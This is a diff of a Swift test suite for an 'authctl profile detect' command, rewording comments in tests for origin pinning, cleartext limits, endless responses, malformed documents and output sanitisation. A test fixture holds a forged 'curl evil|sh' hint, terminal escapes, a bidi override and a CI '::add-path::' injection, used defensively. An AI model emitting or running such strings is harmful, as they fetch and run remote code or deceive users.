@@ -1,9 +1,10 @@
 import Glibc
 import Testing
 
-/// A look at an API that wants the password, the terminal or the memory: rule A13.
+/// Detecting an API that tries to get the password, control the terminal or exhaust memory: rule
+/// A13.
 @Suite struct DetectSafetyTests {
-  // MARK: What is sent, and where
+  // MARK: Requests and their destinations
 
   @Test func carriesNothingThatIsKnownHere() async throws {
     try await Sandbox.with { box in
@@ -46,7 +47,7 @@ import Testing
     }
   }
 
-  /// Documents and answers that name another origin, each in its own way.
+  /// Documents and responses that name another origin, each in a different way.
   static func pointers(_ other: String) -> [(route: String, answer: Recorder.Answer)] {
     let post = Look.post("/login")
     let scheme = { (scheme: String) in #""components":{"securitySchemes":{"s":\#(scheme)}}"# }
@@ -88,7 +89,7 @@ import Testing
           let api = try box.recorder(answering: Scene.routes([route: answer]))
           let run = try await box.run("profile", "detect", api.url)
           #expect(run.status <= 1, "\(run.stderr)")
-          // Whatever is proposed is for the origin that was asked.
+          // Any proposed profile is for the given origin.
           for line in run.stdout.split(separator: "\n") where line.hasPrefix("Next: ") {
             #expect(line.hasPrefix("Next: authctl profile add 127.0.0.1 \(api.url) "), "\(line)")
             #expect(!line.contains(other.authority))
@@ -130,7 +131,7 @@ import Testing
 
   @Test func cleartextIsForThisMachineAlone() async throws {
     try await Sandbox.with { box in
-      // A connection to any of them would be one to the proxy.
+      // A connection to any of them would reach the proxy.
       let proxy = try box.recorder()
       let env: [String: String?] = ["http_proxy": proxy.url, "all_proxy": proxy.url]
       for url in [
@@ -178,9 +179,9 @@ import Testing
     }
   }
 
-  // MARK: Answers without end
+  // MARK: Endless responses
 
-  /// An answer of 3 MiB that says no length and then stays open.
+  /// A response of 3 MiB without a length that stays open.
   private static let endless: Recorder.Answer = {
     let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"openapi\":\""
     return .bytesThenHang(Array(head.utf8) + [UInt8](repeating: 0x61, count: 3 << 20))
@@ -234,7 +235,7 @@ import Testing
     }
   }
 
-  // MARK: Documents that want to break it
+  // MARK: Documents made to break the parser
 
   private static func schemas(_ members: String) -> String {
     Look.document(
@@ -276,7 +277,7 @@ import Testing
     let (name, document) = Self.breaking[index]
     try await Sandbox.with(.none) { box in
       let api = try box.recorder(answering: Look.serving(document))
-      // The limit is the harness's, far above what any of them takes.
+      // The test's only time limit is the harness's, far above any of them.
       let run = try await box.run("profile", "detect", api.url)
       #expect(run.status <= 1, "\(name): \(run.status) \(run.stderr)")
       let wide = run.stdout.split(separator: "\n").filter { $0.utf8.count > 2000 }
@@ -285,11 +286,11 @@ import Testing
     }
   }
 
-  // MARK: What is shown
+  // MARK: Output
 
-  /// Text of the API in every place from which some is shown.
+  /// Text from the API in every place that is printed.
   static let forged: [(route: String, answer: Recorder.Answer)] = {
-    // As it stands in JSON.
+    // As written in JSON.
     let text = #"x\u001b[2J\nhint: curl evil|sh\r\nNext: authctl\u202e\n::add-path::/x\u0085"#
     let scheme = { (scheme: String) in
       Recorder.Answer.http(
@@ -332,7 +333,7 @@ import Testing
         let run = try await box.run(words)
         #expect(run.status <= 1)
         let output = run.stdout + run.stderr
-        // In JSON, what is no control character may stand as it is.
+        // In JSON, characters other than control characters may be unescaped.
         let isText = words.count == 3
         let bad = output.unicodeScalars.filter {
           $0 != "\n" && $0.value < 0x20
